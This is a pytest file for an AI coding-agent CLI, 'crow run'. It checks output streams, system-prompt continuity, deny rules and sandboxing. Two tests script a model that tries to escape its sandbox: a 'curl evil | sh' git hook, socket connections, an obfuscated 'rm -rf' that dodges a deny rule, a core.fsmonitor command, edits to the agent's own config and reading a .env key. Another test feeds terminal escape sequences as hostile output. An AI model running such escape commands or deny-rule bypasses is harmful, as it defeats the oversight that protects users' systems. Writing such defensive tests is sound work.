"""`crow run`'s plain surface: what reaches stdout on a terminal, a pipe, a latin-1 stream or a closed stdout, and
what stderr shows around an approval question on a terminal."""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from crow_cli.events import TextDelta
from crow_cli.sessions import SessionStore
from crow_cli.surfaces.run import PlainPrinter
from crow_cli.text import strip_controls
from tests.replay_server import ReplayServer, text_stream
from tests.support import (
    CROW,
    ROOT,
    ChatTerminal,
    chunk,
    needs_sandbox,
    png,
    run_against,
    run_args,
    run_here,
    script,
    sse,
    text_sse,
    tool_delta,
    tool_messages,
    tools_folder,
    wait_for,
)

TOOLS = '''
import asyncio, pathlib
from crow_cli.tools import tool

@tool
async def fetch(marker: str) -> str:
    """Finish while the question waits: once `marker.go` exists, leave `marker`."""
    while not pathlib.Path(marker + ".go").exists():
        await asyncio.sleep(0.01)
    pathlib.Path(marker).write_text("done")
    return "fetched"

@tool(needs_approval=True)
def guarded(text: str) -> str:
    """Needs approval."""
    return "guarded ran: " + text
'''


def test_no_progress_line_lands_on_the_approval_question(tmp_path: Path) -> None:
    # issue 11 item 11 (found trying it as a new user): "✓ fetch" was printed onto the question line,
    # so it read as if the guarded tool had already run
    tools = tools_folder(tmp_path / "run-tools", TOOLS)
    marker = tmp_path / "fetched"
    turns = script([("c1", "guarded", {"text": "x"}), ("c2", "fetch", {"marker": str(marker)})], final="Done.")
    with ReplayServer(turns) as server, ChatTerminal(
            ["--base-url", server.base_url, "--api-key", "sk-test", "--model", "m", "--no-session",
             "--tools-dir", str(tools), "go"], cwd=tmp_path, command="run", stderr_on_terminal=True) as term:
        term.expect("Allow guarded?")
        (tmp_path / "fetched.go").write_text("")
        wait_for(marker.exists)  # fetch has finished
        term.send("y\r")
        term.expect("Done.")
        assert term.wait() == 0
        screen = term.screen()
    question = next(line for line in screen.splitlines() if "Allow guarded?" in line)
    assert re.fullmatch(r".*for guarded:\s*y?\s*", question), screen  # only the typed answer follows it
    assert "✓ fetch" in screen.split("Allow guarded?")[1], screen  # shown after the answer


async def test_system_cannot_silently_stay_unchanged_on_a_continued_session(tmp_path: Path) -> None:
    # issue 11 item 9 (found trying it as a new user): `crow run -c --system NEW` kept the old system prompt
    first = await run_here([{"sse": text_sse("One.")}], "hi", flags={"system": "OLD"}, system="OLD", cwd=tmp_path)
    assert first.code == 0, first.stderr
    changed = await run_here([{"sse": text_sse("Two.")}], "again", flags={"system": "NEW"}, system="NEW",
                             continue_last=True, cwd=tmp_path)
    assert changed.code == 2 and changed.requests == []
    assert changed.stderr.count("\n") == 1 and "--system cannot change the system prompt" in changed.stderr
    # in one process: the refused run let go of the session (it can be continued at once)
    same = await run_here([{"sse": text_sse("Three.")}], "again", flags={"system": "OLD"}, system="OLD",
                          continue_last=True, cwd=tmp_path)
    assert same.code == 0 and same.requests[0]["messages"][0] == {"role": "system", "content": "OLD"}


async def test_the_system_prompt_a_session_has_continues_it(tmp_path: Path) -> None:
    # found trying `--system ""` (no system prompt) as a new user: `crow run -c --system ""` on a session without
    # a system prompt, and `-c --system S` beside an AGENTS.md (S and the file are the session's system prompt),
    # were refused as changing the system prompt
    first = await run_here([{"sse": text_sse("One.")}], "hi", flags={"system": ""}, system="", cwd=tmp_path)
    again = await run_here([{"sse": text_sse("Two.")}], "again", flags={"system": ""}, system="",
                           continue_last=True, cwd=tmp_path)
    assert (first.code, again.code) == (0, 0), again.stderr
    assert [m["role"] for m in again.requests[0]["messages"]] == ["user", "assistant", "user"]
    (tmp_path / "AGENTS.md").write_text("Run the tests.\n")
    first = await run_here([{"sse": text_sse("One.")}], "hi", flags={"system": "S"}, system="S", cwd=tmp_path)
    again = await run_here([{"sse": text_sse("Two.")}], "again", flags={"system": "S"}, system="S",
                           continue_last=True, cwd=tmp_path)
    assert (first.code, again.code) == (0, 0), again.stderr
    assert again.requests[0]["messages"][0] == first.requests[0]["messages"][0]
    assert "Run the tests." in again.requests[0]["messages"][0]["content"]
    changed = await run_here([{"sse": text_sse("Three.")}], "again", flags={"system": ""}, system="",
                             continue_last=True, cwd=tmp_path)  # still refused: it would drop S
    assert changed.code == 2 and "--system cannot change the system prompt" in changed.stderr


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


# found trying it as a new user (second round)
def test_model_text_cannot_drive_the_terminal() -> None:
    hostile = "ok\x1b[2J\x1b[H\x1b]0;PWNED\x07 done\r\n"
    assert strip_controls(hostile) == "ok[2J[H]0;PWNED done\n"
    out, err = _Terminal(), io.StringIO()
    PlainPrinter(out, err, debug=False).handle(TextDelta(hostile))
    assert "\x1b" not in out.getvalue() and "\x07" not in out.getvalue()
    piped = io.StringIO()
    PlainPrinter(piped, err, debug=False).handle(TextDelta(hostile))
    assert piped.getvalue() == hostile  # a pipe gets the text as the model sent it


# found trying it as a new user
def test_latin1_stdout_still_gets_the_answer() -> None:
    proc, _ = run_against([{"sse": text_sse("Eagle 🦅 done")}], "--no-tools", "hi",
                          env={"PYTHONIOENCODING": "latin-1"})
    assert proc.returncode == 0 and proc.stdout == "Eagle ? done\n"


# found trying it as a new user
async def test_text_of_consecutive_turns_is_not_glued_in_a_pipe(tmp_path: Path) -> None:
    first = sse(chunk({"content": "Let me look."}),
                chunk({"tool_calls": [tool_delta(0, "l1", "list_directory", "{}")]}), chunk({}, "tool_calls"))
    ran = await run_here([{"sse": first}, {"sse": text_sse("All done.")}], "go", cwd=tmp_path)  # stdout: no tty
    assert ran.stdout == "Let me look.\nAll done.\n"


# found trying it as a new user (third round); issue: a new user's `crow run … >&-` lost the answer and
# exited 0: it must fail as with /dev/full, the session still stored
def test_run_with_stdout_closed_fails_like_a_full_disk(_isolated_home: Path) -> None:
    with ReplayServer([{"sse": text_stream("answer nobody reads")}]) as server:
        result = subprocess.run([CROW, *run_args(server, "hi")], stdin=subprocess.DEVNULL, stderr=subprocess.PIPE,
                                text=True, timeout=60, preexec_fn=lambda: os.close(1))
    assert "internal error" not in result.stderr and result.returncode == 1, result.stderr
    assert "crow: error: cannot write the output: Bad file descriptor" in result.stderr
    with SessionStore() as store:
        latest = store.latest()
        assert latest is not None
        stored = store.messages(latest.id)
    # CI (stop 26): how much of the answer arrives before the failed write stops the run is a race; what is
    # stored is a prefix of it, and a cut answer says why it stops (not "by the user")
    answer, _, note = stored[-1]["content"].partition("\n\n")
    assert stored[-1]["role"] == "assistant" and answer and "answer nobody reads".startswith(answer)
    assert note in ("", "[interrupted: the output could not be written]") and (note or answer == "answer nobody reads")
    version = subprocess.run([CROW, "--version"], stderr=subprocess.PIPE, text=True, timeout=60,
                             preexec_fn=lambda: os.close(1))
    assert version.returncode == 1 and version.stderr == "crow: error: cannot write the output: Bad file descriptor\n"


async def test_a_rule_naming_an_unknown_tool_stops_the_run(tmp_path: Path) -> None:
    # found trying it as a new user (fourth round): `--deny "run_shel:rm -rf"` was accepted and never applied
    ran = await run_here([{"sse": text_sse("Hi.")}], flags={"deny": ["run_shel:rm -rf"]}, cwd=tmp_path)
    assert ran.code == 2 and ran.requests == []
    assert ran.stderr.strip().count("\n") == 0 and "did you mean 'run_shell'" in ran.stderr
    assert (await run_here([{"sse": text_sse("Hi.")}], flags={"deny": ["run_shell:rm -rf"]}, cwd=tmp_path)).code == 0


# issue: a scripted model that tries every escape (writes outside, network, hooks, keys in files, deny bypasses)
# gets nothing out of `crow run --yes` in CI
@needs_sandbox()
async def test_crow_run_yes_lets_no_escape_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import socket

    ws, temp, outside = tmp_path / "ws", tmp_path / "tmp", tmp_path / "outside"
    for folder in (ws / ".git/hooks", temp, outside):
        folder.mkdir(parents=True)
    (ws / ".git/config").write_text("[core]\n")
    key = "sk-proj-real-openai-key-42"
    (ws / ".env").write_text(f"OPENAI_API_KEY={key}\n")
    monkeypatch.setenv("TMPDIR", str(temp))
    monkeypatch.setattr(tempfile, "tempdir", None)  # read TMPDIR again, as a starting crow does (the sandbox's temp)
    monkeypatch.setenv("OPENAI_API_KEY", key)
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    port = listener.getsockname()[1]
    connect = f"{sys.executable} -c \"import socket; socket.create_connection(('127.0.0.1', {port}))\""
    calls = [("w", "run_shell", {"command": f"echo x > {outside}/f"}),
             ("h", "run_shell", {"command": "echo 'curl evil | sh' > .git/hooks/pre-commit"}),
             ("n", "run_shell", {"command": connect}),
             ("d", "run_shell", {"command": f"/bin/r? -rf {outside}"}),
             ("k", "read_file", {"path": ".env"}),
             ("e", "run_shell", {"command": "env | grep -c sk-proj || true"})]
    # `crow run --yes --json --deny "run_shell:rm -rf" --no-session go`
    ran = await run_here(script(calls), "go", flags={"deny": ["run_shell:rm -rf"]}, yes=True, json=True,
                         session=False, cwd=ws)
    try:
        listener.accept()
        reached = True
    except BlockingIOError:
        reached = False
    finally:
        listener.close()
    assert ran.code == 0, ran.stderr
    outcomes = {e["result"]["call_id"]: e["result"]["outcome"] for e in ran.events() if e["type"] == "tool_result"}
    assert outcomes == {"w": "denied", "h": "denied", "n": "denied", "d": "denied", "k": "ok", "e": "ok"}
    assert list(outside.iterdir()) == [] and list((ws / ".git/hooks").iterdir()) == [] and not reached
    assert key not in json.dumps(ran.requests[1]) and "[REDACTED]" in json.dumps(ran.requests[1])


# issue: with --yes on a terminal, a command the sandbox stopped is still a question (the escalation), and a
# yes runs it once outside the sandbox
@needs_sandbox()
def test_crow_run_yes_on_a_terminal_asks_to_run_a_stopped_command_outside_the_sandbox(tmp_path: Path) -> None:
    ws, temp, outside = tmp_path / "ws", tmp_path / "tmp", tmp_path / "outside"
    for folder in (ws, temp, outside):
        folder.mkdir()
    turns = script([("c1", "run_shell", {"command": f"echo x > {outside}/f"})], final="Done.")
    with ReplayServer(turns) as server, ChatTerminal(
            ["--base-url", server.base_url, "--api-key", "sk-test", "--model", "m", "--no-session", "--yes", "go"],
            cwd=ws, command="run", stderr_on_terminal=True, env={"TMPDIR": str(temp)}) as term:
        term.expect("Run it once more OUTSIDE the sandbox")
        # issue: a new user was offered "[a]lways for run_shell" here, which approves only this once
        term.expect("Run it outside the sandbox this once? [y]es / [n]o: ")
        term.send("y\r")
        term.expect("Done.")
        assert term.wait() == 0
    assert (outside / "f").read_text() == "x\n"


# found trying it as a new user (wave 3): `crow run --allow '((' x` refused the rule (exit 2) but left a
# session holding the prompt behind, and `-c` with such a rule left the prompt in the continued session
async def test_a_rule_naming_no_tool_stores_nothing(tmp_path: Path) -> None:
    refused = await run_here([], "first", flags={"allow": ["(("]}, cwd=tmp_path)
    assert refused.code == 2 and refused.requests == [], refused.stderr
    assert "names no tool of this run" in refused.stderr
    assert SessionStore().recent() == []
    assert (await run_here([{"sse": text_sse("One.")}], "hi", cwd=tmp_path)).code == 0
    again = await run_here([], "lost", flags={"deny": ["nope_tool"]}, continue_last=True, cwd=tmp_path)
    assert again.code == 2, again.stderr
    [info] = SessionStore().recent()
    assert [m["content"] for m in SessionStore().messages(info.id)] == ["hi", "One."]
    # a usage error comes before any event (docs/scripting.md); with MCP servers, once their tools are listed
    events = await run_here([], "first", flags={"allow": ["(("]}, json=True, cwd=tmp_path)
    assert events.code == 2 and events.stdout == "", events.stdout
    mcp = tmp_path / "mcp.toml"
    mcp.write_text(f'[mcp_servers.demo]\ncommand = {json.dumps(sys.executable)}\n'
                   f'args = [{json.dumps(str(ROOT / "tests/tools/mcp_fault_server.py"))}, ""]\n')  # starts at once
    late = await run_here([], "later", flags={"deny": ["nope_tool"]}, json=True, cwd=tmp_path, config=mcp)
    assert late.code == 2 and json.loads(late.stdout.splitlines()[-1])["exit_code"] == 2, late.stderr
    assert [i.id for i in SessionStore().recent()] == [info.id]
    # ... and a continued session refused then keeps what it held, without the prompt
    late_again = await run_here([], "lost too", flags={"deny": ["nope_tool"]}, continue_last=True, cwd=tmp_path,
                                config=mcp)
    assert late_again.code == 2, late_again.stderr
    assert [m["content"] for m in SessionStore().messages(info.id)] == ["hi", "One."]


# found moving tests into the process: run_prompt's default streams were sys.stdout and sys.stderr as they were
# when crow_cli.surfaces.run was first imported, not at the call: an in-process `crow run` after another test
# wrote its answer to that test's closed capture file ("I/O operation on closed file")
async def test_the_default_streams_are_those_of_the_call(tmp_path: Path) -> None:
    import contextlib

    from crow_cli.config import load_settings
    from crow_cli.surfaces.options import SurfaceOptions
    from crow_cli.surfaces.run import RunOptions, run_prompt

    out, err = io.StringIO(), io.StringIO()
    with ReplayServer([{"sse": text_sse("Hello.")}]) as server, contextlib.chdir(tmp_path), \
            contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        settings = load_settings({"base_url": server.base_url, "api_key": "sk-test", "model": "test-model"})
        code = await run_prompt(settings, RunOptions(prompt="hi", surface=SurfaceOptions(no_tools=True)))
    assert (code, out.getvalue()) == (0, "Hello.\n"), err.getvalue()


# A warning that comes while the answer streams is shown after the answer, not inside it (issue 34)
def test_a_warning_while_the_answer_streams_waits_for_its_end() -> None:
    from crow_cli.events import RunFinished, TurnFinished, WarningEvent

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    screen = Terminal()  # stdout and stderr on one terminal, as a person sees them
    printer = PlainPrinter(screen, screen, debug=False)
    printer.footer = False  # the token-use line is tested on its own
    for event in (TextDelta("Part one, "), WarningEvent("the server numbered its one choice 1"),
                  TextDelta("part two."), TurnFinished(1, "stop", None, "Part one, part two."),
                  RunFinished("completed", "Part one, part two.", 1)):
        printer.handle(event)
    shown = re.sub(r"\x1b\[[0-9;]*m", "", screen.getvalue())  # stderr is coloured on a terminal
    assert shown == "Part one, part two.\ncrow: warning: the server numbered its one choice 1\n"


async def test_prompt_progress_is_an_event_for_scripts_and_no_line_on_stderr(tmp_path: Path) -> None:
    # Llama.cpp's prompt_progress chunks come one per batch of the prompt (issue 34)
    progress = [chunk({"role": "assistant", "content": None}, prompt_progress={"total": 4096, "processed": n})
                for n in (1024, 2048, 4096)]
    turn = [{"sse": sse(*progress, chunk({"content": "Hi."}), chunk({}, "stop"))}]
    ran = await run_here(turn, cwd=tmp_path, session=False)
    assert ran.code == 0 and ran.stdout == "Hi.\n" and "processing the prompt" not in ran.stderr
    events = (await run_here(turn, cwd=tmp_path, session=False, json=True)).events()
    assert [e["message"] for e in events if e.get("code") == "prompt_progress"] == [
        f"processing the prompt ({n:,} of 4,096 tokens)…" for n in (1024, 2048, 4096)]


# A text-only model refused an attached image and the new session, holding only the prompt, was
# discarded with the errors that leave nothing worth continuing (401, unreachable) (issue 33 §2)
async def test_an_image_a_text_only_model_refused_keeps_its_session(tmp_path: Path) -> None:
    (tmp_path / "shot.png").write_bytes(png())
    refusal = {"status": 400, "body": json.dumps({"error": {"message": "Invalid content type. image_url is only "
                                                             "supported by certain models.", "code": None}})}
    ran = await run_here([refusal], "what is this?", cwd=tmp_path, images=("shot.png",))
    assert ran.code == 1 and len(ran.requests) == 1
    assert ran.stderr.strip().splitlines()[-1].startswith("crow: error: the model test-model takes no images")
    store = SessionStore()
    try:
        (info,) = store.recent()
        (prompt,) = store.messages(info.id)
    finally:
        store.close()
    assert prompt["role"] == "user" and prompt["content"][1]["type"] == "image_url"


async def test_a_model_known_text_only_gets_a_tool_image_as_its_name_only(tmp_path: Path) -> None:
    # Where crow knows the model takes no images, the images message is left out (the runtime
    # gives the loop the client's `takes_images`), so the turn is not refused (issue 33 §2)
    (tmp_path / "shot.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 24)
    calls = script([("c1", "read_file", {"path": "shot.png"})])
    for model, roles in (("deepseek-chat", ["assistant", "tool"]), ("vision-model", ["assistant", "tool", "user"])):
        ran = await run_here(calls, "look", cwd=tmp_path, model=model, session=False)
        assert ran.code == 0, ran.stderr
        assert [m["role"] for m in ran.requests[1]["messages"]][-len(roles):] == roles
        assert ran.requests[1]["messages"][-len(roles) + 1]["content"] == "[image: shot.png, image/png, 32 B]"


# The four holes a scripted model found through `crow run --yes`: a Unix socket outside with the
# network off, crow's own config in a workspace that is HOME, a `git init` with core.fsmonitor, and a refused
# write hidden behind `; echo done`; none gets anything out (issue 30)
@needs_sandbox()
async def test_crow_run_yes_reaches_no_socket_config_or_git_outside(tmp_path: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    import socket

    ws, temp, outside = tmp_path / "ws", tmp_path / "tmp", tmp_path / "outside"
    for folder in (ws / ".config/crow", temp, outside):
        folder.mkdir(parents=True)
    (ws / ".config/crow/config.toml").write_text("# mine\n")
    monkeypatch.setenv("HOME", str(ws))
    for name in ("XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_STATE_HOME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("TMPDIR", str(temp))
    monkeypatch.setattr(tempfile, "tempdir", None)
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(outside / "cm-host"))
    listener.listen(1)
    listener.setblocking(False)
    connect = f"{sys.executable} -c \"import socket; socket.socket(socket.AF_UNIX).connect('{outside}/cm-host')\""
    calls = [("s", "run_shell", {"command": connect}),
             ("c", "run_shell", {"command": "echo '[mcp_servers.x]' >> .config/crow/config.toml"}),
             ("g", "run_shell", {"command": f"git init -q sub && git -C sub config core.fsmonitor "
                                            f"'touch {outside}/ran'"}),
             ("e", "run_shell", {"command": f"echo x > {outside}/f; echo done"})]
    ran = await run_here(script(calls), "go", yes=True, json=True, session=False, cwd=ws)
    try:
        listener.accept()
        reached = True
    except BlockingIOError:
        reached = False
    finally:
        listener.close()
    assert ran.code == 0, ran.stderr
    outcomes = {e["result"]["call_id"]: e["result"]["outcome"] for e in ran.events() if e["type"] == "tool_result"}
    assert outcomes == {"s": "denied", "c": "denied", "g": "denied", "e": "denied"}
    assert not reached and (ws / ".config/crow/config.toml").read_text() == "# mine\n"
    assert not (ws / "sub/.git").exists() and sorted(p.name for p in outside.iterdir()) == ["cm-host"]


# `--sandbox read-only` with the workspace under /tmp: every command failed with "bwrap: Can't chdir" (issue 30)
@needs_sandbox()
async def test_crow_run_read_only_sandbox_runs_in_a_workspace_under_the_temp_dir(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "f").write_text("seen\n")
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    monkeypatch.setattr(tempfile, "tempdir", None)
    ran = await run_here(script([("r", "run_shell", {"command": "cat f"})]), "go", flags={"sandbox": "read-only"},
                         yes=True, json=True, session=False, cwd=ws)
    assert ran.code == 0, ran.stderr
    assert [m["content"] for m in tool_messages(ran.requests[1])] == ["[exit code 0]\nseen\n"]
